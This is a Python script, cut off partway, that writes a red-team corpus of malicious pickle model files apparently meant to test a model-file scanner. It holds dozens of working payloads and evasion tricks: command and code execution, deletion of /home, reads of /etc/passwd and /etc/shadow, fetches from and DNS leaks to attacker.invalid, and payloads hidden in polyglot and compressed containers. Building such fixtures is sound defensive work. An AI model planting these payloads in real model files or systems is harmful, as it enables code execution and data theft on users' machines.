#!/usr/bin/env python3
"""Writes Pathfinder's red-team corpus of malicious model files into fixtures/artifact-corpus/attacks/.

Every file is assembled from raw pickle opcodes (nothing is pickled from live objects, nothing is ever loaded),
so gadgets from modules this Python does not have are as easy to write as any other. The attacks follow
published bypasses and research: picklescan's GHSA advisories (torch.utils, _aix_support, _osx_support,
_pyrepl, test.support, idlelib, profile/trace/cProfile, lib2to3, asyncio, numpy.f2py, ...), fickling's and
modelscan's issues (getattr chains, functools.partial, copyreg helpers, EXT codes, memo tricks, stacked
streams), ModelAudit advisories (zip name tricks, nested pickles in BUILD state, compressed members), the
PyTorch weights_only CVEs (CVE-2025-32434 style legacy tar/stacked files, _rebuild_from_type_v2 and
_load_from_bytes abuse), and the nullifAI write-up (7z-free broken streams: a payload, then garbage).
Beyond those, gadgets nobody lists: stdlib and ML helpers that run commands, evaluate code, write files,
import modules or load another pickle, called directly or through allowlisted helpers.

Container formats beyond the standard library (the nullifAI technique's 7z archives, LZ4 frames as joblib
writes them, Zstandard) come from the `7z` tool and the lz4 and zstandard modules.

The Keras files (legacy .h5 models, .keras archives) are written with h5py by keras_files.py.

Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard python3-h5py python3-torch python3-joblib python3-tables)
"""
import bz2
import gzip
import io
import lzma
import os
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib

import lz4.frame
import zstandard

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
OUT = os.path.join(ROOT, "fixtures", "artifact-corpus", "attacks")
CMD = "touch /tmp/pathfinder-redteam"
PY = "__import__('os').system('touch /tmp/pathfinder-redteam')"


# ---- a tiny pickle assembler -------------------------------------------------------------------------

class P:
    """Appends opcodes; `g()` spells globals the way the chosen protocol does."""

    def __init__(self, proto=4, frame=False):
        self.proto = proto
        self.frame = frame
        self.b = bytearray()
        self.memo = 0
        if proto >= 2:
            self.b += bytes([0x80, proto])

    def raw(self, data):
        self.b += data
        return self

    def g(self, module, name):
        if self.proto >= 4:
            self.s(module).s(name).raw(b"\x93")
        else:
            self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
        return self

    def s(self, value):
        data = value.encode("utf-8")
        if self.proto == 0:
            return self.raw(b"V" + value.encode("raw_unicode_escape") + b"\n")
        if self.proto >= 4 and len(data) < 256:
            return self.raw(b"\x8c" + bytes([len(data)]) + data)
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def by(self, data):
        if self.proto < 3:
            return self.g("_codecs", "encode").mark().s(data.decode("latin-1")).s("latin1").raw(b"tR")
        return self.raw(b"B" + struct.pack("<I", len(data)) + data)

    def i(self, n):
        return self.raw(b"I" + str(n).encode() + b"\n") if self.proto == 0 else self.raw(b"J" + struct.pack("<i", n))

    def none(self):
        return self.raw(b"N")

    def mark(self):
        return self.raw(b"(")

    def tup(self):
        return self.raw(b"t")

    def tup1(self):
        return self.raw(b"\x85") if self.proto >= 2 else self.raw(b"t")

    def reduce(self):
        return self.raw(b"R")

    def put(self):
        if self.proto >= 4:
            self.raw(b"\x94")
        else:
            self.raw(b"p" + str(self.memo).encode() + b"\n")
        self.memo += 1
        return self.memo - 1

    def get(self, index):
        return self.raw(b"g" + str(index).encode() + b"\n")

    def stop(self):
        return self.raw(b".")

    def call(self, module, name, *args):
        self.g(module, name).mark()
        for a in args:
            self.arg(a)
        return self.tup().reduce()

    def arg(self, a):
        if isinstance(a, str):
            self.s(a)
        elif isinstance(a, bool) or a is None:
            self.raw(b"N" if a is None else (b"\x88" if a else b"\x89") if self.proto >= 2 else (b"I01\n" if a else b"I00\n"))
        elif isinstance(a, int):
            self.i(a)
        elif isinstance(a, bytes):
            self.by(a)
        elif isinstance(a, list):
            self.raw(b"(")
            for x in a:
                self.arg(x)
            self.raw(b"l")
        elif isinstance(a, dict):
            self.raw(b"(")
            for k, v in a.items():
                self.arg(k)
                self.arg(v)
            self.raw(b"d")
        elif callable(a):
            a(self)
        return self

    def bytes(self):
        data = bytes(self.b)
        if self.frame and self.proto >= 4:
            body = data[2:]
            data = data[:2] + b"\x95" + struct.pack("<Q", len(body)) + body
        return data


def simple(module, name, *args, proto=4):
    return P(proto).call(module, name, *args).stop().bytes()


# ---- containers ----------------------------------------------------------------------------------------

def zip_member(name):
    """A zip member dated 1980-01-01 (writestr with a bare name stamps the current time: the bytes would change between runs)."""
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.external_attr = 0o600 << 16
    return info


def torch_zip(payload, name="archive", pkl="data.pkl", compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        z.writestr(zip_member(f"{name}/{pkl}"), payload, compress_type=compression)
        z.writestr(zip_member(f"{name}/version"), "3\n", compress_type=compression)
        z.writestr(zip_member(f"{name}/data/0"), b"\0" * 16, compress_type=compression)
    return buf.getvalue()


def npy_object(payload, descr="'|O'"):
    header = ("{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }").encode()
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def npz(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members.items():
            z.writestr(zip_member(n), d, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def tar(members, mode="w"):
    if mode == "w:gz":
        # tarfile's gzip header carries the current time; an uncompressed tar gzipped with mtime 0 does not.
        return gzip.compress(tar(members), mtime=0)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:
        for n, d in members.items():
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    return buf.getvalue()


def legacy_stacked(payload):
    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop().bytes()
    version = P(2).raw(b"M\xe9\x03").stop().bytes()
    sys_info = P(2).raw(b"}").stop().bytes()
    return magic + version + sys_info + payload


def seven_zip(members, *switches):
    """A 7z archive written by the 7z tool (file times fixed so that the bytes do not change between runs)."""
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "src")
        for n, d in members.items():
            path = os.path.join(src, n)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(d)
            os.utime(path, (0, 0))
        target = os.path.join(tmp, "out.7z")
        subprocess.run(["7z", "a", "-t7z", *switches, target, *members.keys()], cwd=src, check=True, stdout=subprocess.DEVNULL)
        with open(target, "rb") as f:
            return f.read()


def gzip_tar_polyglot(tar_member, gzip_content):
    """Valid as a tar (one member) and as a gzip: the whole tar sits in the gzip header's FEXTRA field."""
    body = -(-len(tar_member) // 512) * 512
    extra = 512 + body + 1024 - 12
    gz_head = bytes([0x1F, 0x8B, 0x08, 0x04, 0, 0, 0, 0, 0, 0xFF]) + struct.pack("<H", extra)
    header = bytearray(512)
    header[: len(gz_head)] = gz_head
    header[100:108] = b"0000644\0"
    header[108:116] = b"0000000\0"
    header[116:124] = b"0000000\0"
    header[124:136] = b"%011o\0" % len(tar_member)
    header[136:148] = b"00000000000\0"
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    tar_bytes = bytes(header) + tar_member.ljust(body, b"\0") + b"\0" * 1024
    gz = gzip.compress(gzip_content, mtime=0)
    return tar_bytes + zlib.compress(gzip_content)[2:-4] + gz[-8:]


# ---- the corpus ----------------------------------------------------------------------------------------

ATTACKS = []


def attack(name, data, source):
    ATTACKS.append((name, data, source))


def build():
    # Classic command and code execution at every protocol.
    for proto in range(6):
        attack(f"os-system.p{proto}.pkl", simple("os", "system", CMD, proto=proto), "classic __reduce__ payload")
        attack(f"builtins-exec.p{proto}.pkl", simple("builtins", "exec", PY, proto=proto), "classic __reduce__ payload")
    attack("posix-system-framed.pkl", P(4, frame=True).call("posix", "system", CMD).stop().bytes(), "protocol 4 with FRAME first")
    attack("nt-system.pkl", simple("nt", "system", CMD), "Windows spelling")
    attack("builtin-eval-py2.pkl", simple("__builtin__", "eval", PY, proto=0), "Python 2 module name (fix_imports)")
    attack("subprocess-popen.pkl", simple("subprocess", "Popen", ["sh", "-c", CMD]), "subprocess")
    attack("subprocess-getoutput.pkl", simple("subprocess", "getoutput", CMD), "subprocess")
    attack("import-os.pkl", simple("builtins", "__import__", "os"), "GHSA-46h3-79wf-xr6c style")
    attack("runpy-run-code.pkl", simple("runpy", "_run_code", PY, {}), "picklescan malicious14")
    attack("timeit.pkl", simple("timeit", "timeit", "", PY), "picklescan malicious21")
    attack("pip-main.pkl", simple("pip", "main", ["install", "evil"]), "picklescan malicious16")
    attack("pty-spawn.pkl", simple("pty", "spawn", ["sh", "-c", CMD]), "GHSA-vqmv-47xg-9wpr")
    attack("ctypes-cdll.pkl", simple("ctypes", "CDLL", "/tmp/evil.so"), "GHSA-4675-36f9-wf6r")
    attack("ssl-exfil.pkl", simple("ssl", "get_server_certificate", ["x.attacker.invalid", 443]), "picklescan dns_exfiltration")
    attack("webbrowser-open.pkl", simple("webbrowser", "open", "https://attacker.invalid"), "network")
    attack("shutil-rmtree.pkl", simple("shutil", "rmtree", "/home"), "file deletion")
    attack("io-fileio.pkl", simple("_io", "FileIO", "/etc/passwd", "r"), "picklescan io_FileIO")
    attack("logging-filehandler.pkl", simple("logging", "FileHandler", "/tmp/evil"), "picklescan logging_FileHandler")
    attack("pkgutil-resolve-name.pkl", P(4).g("pkgutil", "resolve_name").mark().s("os:system").tup().reduce()
           .mark().s(CMD).tup().reduce().stop().bytes(), "GHSA-vvpj-8cmc-gx39")
    attack("cprofile-run.pkl", simple("cProfile", "run", PY), "GHSA-49gj-c84q-6qm9")
    attack("trace-runctx.pkl", P(4).g("trace", "Trace.runctx").mark().g("trace", "Trace").mark().tup().reduce().s(PY).raw(b"}}").tup().reduce().stop().bytes(),
           "GHSA-g344-hcph-8vgg")
    attack("idlelib-runcode.pkl", P(4).g("idlelib.pyshell", "ModifiedInterpreter.runcode").mark().raw(b"}").s(PY).tup().reduce().stop().bytes(), "GHSA-3gf5-cxq9-w223")
    attack("lib2to3-make-label.pkl", simple("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PY), "GHSA-p9w7-82w4-7q8m")
    attack("numpy-f2py.pkl", simple("numpy.f2py.crackfortran", "getlincoef", PY, []), "GHSA-r8g5-cgf2-4m4m")
    attack("asyncio-subprocess.pkl", simple("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0), "GHSA-jgw4-cr84-mqxg")
    attack("numpy-runstring.pkl", simple("numpy.testing._private.utils", "runstring", PY, {}), "picklescan malicious22")
    attack("torch-inductor-compile.pkl", simple("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD]), "picklescan malicious17")
    attack("pydoc-pipepager.pkl", simple("pydoc", "pipepager", "", CMD), "picklescan malicious18")
    attack("venv-create.pkl", simple("venv", "create", "venv", False, False, True, False, CMD), "picklescan malicious20")
    attack("uuid-command.pkl", simple("uuid", "_get_command_stdout", "sh", "-c", CMD), "GHSA-g38g-8gr9-h9xp (uuid)")
    attack("imaplib-stream.pkl", simple("imaplib", "IMAP4_stream", CMD), "GHSA-g38g-8gr9-h9xp (imaplib)")
    attack("distutils-write-file.pkl", simple("distutils.file_util", "write_file", "/tmp/evil.pth", ["import os"]), "GHSA-m273-6v24-x4m4")
    attack("types-codetype.pkl", simple("types", "CodeType", 0, 0, 0, 0, 0, 0, b"d\x00S\x00", [], [], [], "x", "x", 0, b""), "picklescan types_CodeType")
    attack("cloudpickle-builtin-type.pkl", simple("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), "picklescan cloudpickle_codeinjection")

    # Gadgets no denylist names (published bypasses and fresh ones): the allowlist must catch them.
    novel = [
        ("torch.utils.bottleneck.__main__", "run_cprofile", [PY, {}], "GHSA-4r9r-ch6f-vxmx"),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", [PY, {}], "GHSA-4whj-rm5r-c2v8"),
        ("torch.utils.collect_env", "run", [CMD], "GHSA-f745-w6jp-hpxx"),
        ("torch.utils.collect_env", "run_and_read_all", [None, CMD], "GHSA-jhph-76pp-mggw"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", b"\x80\x04."], "GHSA-h3qp-7fh3-f8h4"),
        ("torch.utils._config_module", "ConfigModule.load_config", [None, b"\x80\x04."], "GHSA-vv6j-3g6g-2pvj"),
        ("_aix_support", "_read_cmd_output", [CMD], "GHSA-g38g-8gr9-h9xp (_aix_support)"),
        ("_osx_support", "_read_output", [CMD], "GHSA-g38g-8gr9-h9xp (_osx_support)"),
        ("_pyrepl.pager", "pipe_pager", ["", CMD], "GHSA-g38g-8gr9-h9xp (_pyrepl)"),
        ("test.support.script_helper", "assert_python_ok", ["-c", PY], "GHSA-g38g-8gr9-h9xp (test.support)"),
        ("platform", "_syscmd_file", ["/etc/passwd"], "fresh: platform runs the file command"),
        ("pathlib", "Path.write_text", [lambda p: p.call("pathlib", "Path", "/tmp/evil.pth"), "import os"], "fresh: pathlib writes files"),
        ("py_compile", "compile", ["/tmp/x.py", "/usr/lib/python3/evil.pyc"], "fresh: writes a .pyc"),
        ("compileall", "compile_dir", ["/tmp"], "fresh: writes .pyc files"),
        ("zipapp", "create_archive", ["/tmp", "/tmp/out.pyz"], "fresh: writes an archive"),
        ("sqlite3", "connect", ["/tmp/evil.db"], "fresh: creates a file"),
        ("pandas.io.parsers.readers", "read_csv", ["https://attacker.invalid/x.csv"], "fresh: pandas fetches a URL"),
        ("pandas.io.parquet", "read_parquet", ["https://attacker.invalid/x.parquet"], "fresh: pandas fetches a URL"),
        ("sklearn.datasets._openml", "fetch_openml", ["x"], "fresh: network fetch from an ML helper"),
        ("sklearn.utils._testing", "assert_run_python_script", [PY], "fresh: scikit-learn testing helper runs Python"),
        ("numpy.lib.format", "open_memmap", ["/tmp/evil.npy", "w+"], "fresh: numpy writes a file"),
        ("scipy.io.matlab._mio", "savemat", ["/tmp/evil.mat", {}], "fresh: scipy writes a file"),
        ("torch.utils.model_zoo", "load_url", ["https://attacker.invalid/m.pt"], "fresh: downloads and torch.loads"),
        ("mailcap", "findmatch", [{}, "x"], "fresh: mailcap runs test commands"),
        ("linecache", "getlines", ["/etc/shadow"], "fresh: reads a file"),
        ("xml.dom.minidom", "parse", ["https://attacker.invalid/x.xml"], "fresh: network fetch"),
        ("configparser", "ConfigParser.read", [None, "/etc/passwd"], "fresh: reads a file"),
        ("ensurepip", "_run_pip", [["install", "evil"]], "GHSA-xp4f-hrf8-rxw7"),
        ("sysconfig", "_init_posix", [{}], "fresh: imports a module named by the environment"),
        ("code", "InteractiveInterpreter.runsource", [None, PY], "GHSA-cj3c-v495-4xqh style"),
        ("_sitebuiltins", "_Printer", ["x", "y", ["/etc/passwd"]], "fresh: reads files when printed"),
        ("tarfile", "TarFile.extractall", [None, "/"], "path traversal on load"),
        ("antigravity", "geohash", [0, 0, b"x"], "fresh: opens a browser on import"),
        ("this", "s", [], "fresh: import side effect"),
        ("joblib.parallel", "Parallel", [], "joblib worker helper"),
        ("dill._dill", "_create_function", [None, {}], "dill code objects"),
        ("builtins", "breakpoint", [], "debugger"),
        ("torch.serialization", "load", [b"\x80\x04."], "picklescan malicious19 style"),
    ]
    for module, name, args, source in novel:
        slug = f"{module}.{name}".replace(".", "-").replace("_", "").lower()[:60]
        attack(f"gadget-{slug}.pkl", simple(module, name, *args), source)
        attack(f"gadget-{slug}.p0.pkl", simple(module, name, *[a for a in args if not callable(a)], proto=0), source + " (protocol 0)")

    # Allowlisted helpers abused: their loading runs what their arguments name.
    attack("partial-system.pkl", P(4).g("functools", "partial").mark().g("os", "system").s(CMD).tup().reduce()
           .mark().tup().reduce().stop().bytes(), "functools.partial wraps a command runner")
    attack("partial-unknown.pkl", P(4).g("functools", "partial").mark().g("_aix_support", "_read_cmd_output").s(CMD).tup().reduce()
           .mark().tup().reduce().stop().bytes(), "functools.partial wraps an unlisted gadget")
    attack("reconstructor-base.pkl", P(2).g("copy_reg", "_reconstructor").mark().g("builtins", "object")
           .g("_osx_support", "_read_output").s(CMD).tup().reduce().stop().bytes(), "copyreg._reconstructor calls its base")
    attack("reconstructor-cls-call.pkl", P(2).g("copy_reg", "_reconstructor").mark().g("builtins", "object").mark().tup().reduce()
           .g("builtins", "object").none().tup().reduce().stop().bytes(), "copyreg._reconstructor with a computed class")
    attack("newobj-unknown-class.pkl", P(2).g("test.support", "TestFailed").mark().tup().raw(b"\x81").raw(b"}b").stop().bytes(),
           "NEWOBJ of an unlisted class (its __setstate__ runs)")
    attack("defaultdict-factory.pkl", P(2).g("collections", "defaultdict").mark().g("posix", "system").tup().reduce().stop().bytes(),
           "defaultdict factory")
    attack("getattr-chain.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "__import__").mark().s("os").tup().reduce()
           .s("system").tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(), "getattr(__import__('os'), 'system')")
    attack("getattr-module.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "getattr").mark().g("os", "path").s("os").tup().reduce().s("system").tup().reduce()
           .mark().s(CMD).tup().reduce().stop().bytes(), "getattr(getattr(os.path, 'os'), 'system')")
    attack("getattr-allowlisted-module.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "getattr").mark().g("collections", "OrderedDict").s("__init__").tup().reduce()
           .s("__globals__").tup().reduce().mark().tup().reduce().stop().bytes(), "sandbox escape through __globals__")
    attack("getattr-dynamic-name.pkl", P(4).g("builtins", "getattr").mark().g("posix", "getcwd").mark().tup().reduce()
           .g("builtins", "str").mark().s("system").tup().reduce().tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(),
           "getattr with a computed attribute name")
    attack("ufunc-reconstruct.pkl", P(2).g("numpy.core", "_ufunc_reconstruct").mark().s("os").s("system").tup().reduce()
           .mark().s(CMD).tup().reduce().stop().bytes(), "numpy _ufunc_reconstruct resolves any module attribute")
    attack("rebuild-from-type.pkl", P(2).g("torch._tensor", "_rebuild_from_type_v2").mark().g("os", "system").g("builtins", "object")
           .mark().s(CMD).tup().none().tup().reduce().stop().bytes(), "torch _rebuild_from_type_v2 calls its function")
    attack("numpy-reconstruct-subclass.pkl", P(2).g("numpy.core.multiarray", "_reconstruct").mark().g("test.support", "TestFailed")
           .mark().i(0).tup().s("b").tup().reduce().stop().bytes(), "numpy _reconstruct with an unlisted subclass")
    attack("call-of-call.pkl", P(2).g("collections", "OrderedDict").mark().tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(),
           "calling the result of a call")
    attack("ndarraywrapper-traversal.pkl", P(2).g("joblib.numpy_pickle_compat", "NDArrayWrapper").mark().tup().raw(b"\x81")
           .mark().s("filename").s("../../../tmp/evil.npy").s("subclass").g("numpy", "ndarray").raw(b"db").stop().bytes(),
           "old joblib wrapper reads a file outside its folder with allow_pickle=True")

    # Opcode-level evasion.
    attack("stack-global-dynamic.pkl", P(4).g("builtins", "str").mark().s("os").tup().reduce().s("system").raw(b"\x93")
           .mark().s(CMD).tup().reduce().stop().bytes(), "STACK_GLOBAL with computed operands")
    attack("ext-code.pkl", P(2).raw(b"\x82\x01").mark().s(CMD).tup().reduce().stop().bytes(), "EXT1 copyreg registry code")
    attack("memo-global.pkl", P(2).g("os", "system").raw(b"q\x05").raw(b"0").raw(b"h\x05").mark().s(CMD).tup().reduce().stop().bytes(),
           "global stored in the memo, fetched later")
    attack("inst-opcode.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "INST opcode")
    attack("obj-opcode.pkl", P(2).mark().g("os", "system").s(CMD).raw(b"o").stop().bytes(), "OBJ opcode")
    attack("newobj-ex.pkl", P(4).g("subprocess", "Popen").mark().s("sh").s("-c").s(CMD).raw(b"l").raw(b"\x85").raw(b"}").raw(b"\x92").stop().bytes(), "NEWOBJ_EX")
    attack("module-mutation.pkl", P(2).g("os", "path").raw(b"}").s("join").g("os", "system").raw(b"sb").stop().bytes(), "BUILD on a module")
    attack("broken-after-payload.pkl", P(2).call("os", "system", CMD).raw(b"\xff\xfe garbage").bytes(), "nullifAI: broken stream after the payload")
    attack("broken-proto0.pkl", b"cbuiltins\nexec\n(X>\nf = open('x', 'a')tR.", "picklescan broken_model")
    attack("stacked-second.pkl", P(2).raw(b"}").stop().bytes() + simple("os", "system", CMD, proto=2), "payload in the second stacked pickle")
    attack("long-prefix.p0.pkl", b"S'" + b"A" * 70000 + b"'\n0" + simple("os", "system", CMD, proto=0), "protocol 0 string over 64 KiB before the payload")
    attack("long-prefix-binary.pkl", P(2).by(b"\0" * 70000).raw(b"0").call("os", "system", CMD).stop().bytes(), "binary string over 64 KiB before the payload")
    attack("proto1-noheader.pkl", b"}q\x00(U\x01aq\x01cos\nsystem\nq\x02(U\x02idq\x03tRq\x04u.", "protocol 1 without PROTO")
    attack("proto-header-p1.pkl", b"\x80\x01" + simple("os", "system", CMD, proto=1), "protocol 1 with a PROTO opcode")
    attack("frame-straddle.pkl", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x02id\x85R.", "FRAME that straddles opcodes")
    attack("nested-loads.pkl", P(2).call("pickle", "loads", simple("os", "system", CMD)).stop().bytes(), "nested pickle.loads")
    attack("nested-base64.pkl", P(2).g("pickle", "loads").mark().g("base64", "b64decode").mark()
           .s(__import__("base64").b64encode(simple("os", "system", CMD)).decode()).tup().reduce().tup().reduce().stop().bytes(), "base64 nested pickle")
    attack("load-from-bytes.pkl", P(2).call("torch.storage", "_load_from_bytes", simple("_aix_support", "_read_cmd_output", CMD)).stop().bytes(),
           "torch.storage._load_from_bytes with a malicious inner pickle")
    attack("load-from-bytes-dynamic.pkl", P(2).g("torch.storage", "_load_from_bytes").mark().g("builtins", "bytes").mark().i(3).tup().reduce()
           .tup().reduce().stop().bytes(), "torch.storage._load_from_bytes of computed bytes")
    attack("nested-in-build-state.pkl", P(2).g("collections", "OrderedDict").mark().tup().reduce().mark().s("x")
           .arg(lambda p: p.call("pickle", "loads", simple("posix", "system", CMD))).raw(b"db").stop().bytes(),
           "nested pickle inside a BUILD state")

    # Containers that loaders open.
    evil = simple("posix", "system", CMD, proto=2)
    novel_evil = simple("torch.utils.collect_env", "run", CMD, proto=2)
    attack("torch-zip.pt", torch_zip(evil), "torch zip checkpoint")
    attack("torch-zip-novel.pt", torch_zip(novel_evil), "torch zip with an unlisted gadget")
    attack("torch-zip-deflate.pt", torch_zip(evil, compression=zipfile.ZIP_DEFLATED), "deflated data.pkl")
    attack("torch-zip-bz2.pt", torch_zip(evil, compression=zipfile.ZIP_BZIP2), "bzip2 member")
    attack("torch-zip-lzma.pt", torch_zip(evil, compression=zipfile.ZIP_LZMA), "LZMA member")
    attack("torch-zip-renamed.bin", torch_zip(evil, name="weights", pkl="config.pkl"), "pickle under another name")
    attack("torch-zip-prepended.pt", b"\0" * 100 + torch_zip(evil), "data prepended to the zip")
    attack("torch-legacy-stacked.pt", legacy_stacked(evil), "legacy stacked torch file (CVE-2025-32434 family)")
    attack("torch-legacy-tar.tar", tar({"sys_info": P(2).raw(b"}").stop().bytes(), "pickle": evil, "storages": P(2).raw(b"]").stop().bytes(),
                                        "tensors": P(2).raw(b"]").stop().bytes()}), "legacy torch tar layout")
    attack("nemo.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:gz"), "NeMo tar.gz with a checkpoint")
    attack("object.npy", npy_object(evil), "numpy object array")
    attack("object-descr-spelling.npy", npy_object(evil, "'O'"), "object dtype spelled without byte order")
    attack("object-descr-list.npy", npy_object(evil, "[('a', 'O')]"), "structured dtype with an object field")
    attack("arrays.npz", npz({"a.npy": npy_object(evil)}), "npz with an object array")
    attack("object-descr-word.npy", npy_object(evil, "'object'"), "object dtype spelled as a word (numpy.dtype('object'))")
    attack("object-duplicate-key.npy", npy_object(evil, "'<f8', 'descr': '|O'"), "npy header with 'descr' twice: numpy's literal_eval keeps the last")
    attack("payload-padded.gz", gzip.compress(P(2).raw(b"}").stop().bytes(), mtime=0) + b"\0" * 512 + gzip.compress(evil, mtime=0), "zero padding between gzip members")
    benign_zip = torch_zip(P(2).raw(b"}").stop().bytes())
    attack("two-archives.pt", torch_zip(evil) + benign_zip, "two zips: front readers and end-record readers disagree")
    attack("payload.pkl.gz", gzip.compress(evil, mtime=0), "gzip")
    attack("payload-multimember.gz", gzip.compress(P(2).raw(b"}").stop().bytes(), mtime=0) + gzip.compress(evil, mtime=0), "gzip second member")
    attack("payload.pkl.bz2", bz2.compress(evil), "bzip2")
    attack("payload-multistream.bz2", bz2.compress(b"") + bz2.compress(evil), "bzip2 second stream")
    attack("payload.pkl.xz", lzma.compress(evil), "xz")
    attack("payload.pkl.lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE), "lzma alone")
    attack("payload-multistream.xz", lzma.compress(P(2).raw(b"}").stop().bytes()) + lzma.compress(evil), "xz second stream")
    attack("payload-delta.xz", lzma.compress(evil, filters=[{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2}]),
           "xz with a delta filter before LZMA2")
    attack("payload.z", zlib.compress(evil), "zlib (joblib)")
    attack("payload-noext", evil, "extensionless pickle")
    attack("payload.dat", simple("os", "system", CMD, proto=0), "protocol 0 with an unusual extension")
    attack("polyglot.pt", evil[:-1] + b"0" + b"." + torch_zip(simple("builtins", "eval", PY, proto=2)), "pickle/zip polyglot")

    # Formats and readings beyond the standard library's.
    broken = evil[:-1] + b"\x00garbage"  # nullifAI: the payload runs, then the stream breaks
    attack("nullifai-7z.pt", seven_zip({"archive/data.pkl": broken, "archive/version": b"3\n"}), "nullifAI: 7z-compressed torch model with a broken pickle")
    attack("payload-copy.7z", seven_zip({"model.pkl": evil}, "-m0=Copy", "-mhc=off"), "7z with stored members (picklescan malicious1.7z)")
    attack("payload-bcj.7z", seven_zip({"model.pkl": evil, "README": b"weights\n"}, "-mf=BCJ", "-m0=LZMA2"), "7z with a BCJ filter and LZMA2")
    attack("payload-delta.7z", seven_zip({"model.pkl": evil}, "-m0=Delta:2", "-m1=LZMA"), "7z with a delta filter before LZMA")
    attack("payload-bcj-x86.xz", lzma.compress(evil, filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "xz with the x86 BCJ filter")
    attack("payload-bcj-arm.xz", lzma.compress(evil, filters=[{"id": lzma.FILTER_ARM}, {"id": lzma.FILTER_LZMA2}]), "xz with the ARM BCJ filter")
    attack("payload-bcj-delta.xz", lzma.compress(evil, filters=[{"id": lzma.FILTER_SPARC}, {"id": lzma.FILTER_DELTA, "dist": 3},
                                                                  {"id": lzma.FILTER_LZMA2}]), "xz with a chain of three filters")
    attack("payload.pkl.lz4", lz4.frame.compress(evil), "LZ4 frame (joblib's lz4 compression)")
    attack("payload-multiframe.lz4", lz4.frame.compress(P(2).raw(b"}").stop().bytes()) + lz4.frame.compress(evil), "LZ4 second frame")
    attack("payload-linked.lz4", lz4.frame.compress(b"(" * 70000 + evil, block_linked=True, block_size=lz4.frame.BLOCKSIZE_MAX64KB),
           "LZ4 with linked 64 KB blocks: the payload starts in a later block")
    attack("payload.pkl.zst", zstandard.ZstdCompressor().compress(evil), "Zstandard (zip method 93 in Python 3.14)")
    attack("gzip-tar-polyglot.tar", gzip_tar_polyglot(P(2).raw(b"}").stop().bytes(), evil),
           "a file that is a harmless tar and a malicious gzip (tarfile.open tries gzip first)")
    attack("tar-polyglot.pkl.gz", gzip_tar_polyglot(evil, P(2).raw(b"}").stop().bytes()),
           "a file that is a harmless gzip and a malicious tar (tarfile.open(mode='r:') reads the tar)")
    attack("tar-zip-appended.tar", tar({"README": b"weights\n"}) + torch_zip(evil), "a tar with a zip appended: zipfile reads the zip")
    attack("gzip-zip-appended.gz", gzip.compress(b"weights\n", mtime=0) + torch_zip(evil), "a gzip with a zip appended")
    attack("nemo-xz.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:xz"), "NeMo tar.xz with a checkpoint")

    round_2026(evil)
    round_s20()
    round_s20_tar(evil)
    round_s21()
    round_s22()
    round_s23()
    round_s24()
    round_s25()


def joblib_array_header(dtype, shape):
    """A joblib NumpyArrayWrapper (joblib 1.x) announcing an array of `dtype` and `shape`; its bytes follow it."""
    p = P(2).g("joblib.numpy_pickle", "NumpyArrayWrapper").raw(b")\x81").raw(b"}").raw(b"(")
    p.s("subclass").g("numpy", "ndarray").s("shape").raw(b"(")
    for n in shape:
        p.i(n)
    p.raw(b"t").s("order").s("C").s("dtype").g("numpy", "dtype").mark().s(dtype).raw(b"\x89\x88").tup().reduce()
    p.raw(b"}b").s("allow_mmap").raw(b"\x88").s("numpy_array_alignment_bytes").i(16).raw(b"ub")
    return p.bytes()


def zip_with_duplicate(first, second):
    """Two members named archive/data.pkl: zipfile's name table keeps the last."""
    buf = io.BytesIO()
    with warnings_off(), zipfile.ZipFile(buf, "w") as z:
        z.writestr(zip_member("archive/data.pkl"), first)
        z.writestr(zip_member("archive/data.pkl"), second)
        z.writestr(zip_member("archive/version"), "3\n")
    return buf.getvalue()


class warnings_off:
    def __enter__(self):
        import warnings
        self._w = warnings.catch_warnings()
        self._w.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc):
        self._w.__exit__(*exc)


def round_2026(evil):
    """The 2026 round: gadgets and tricks the corpus above does not cover."""
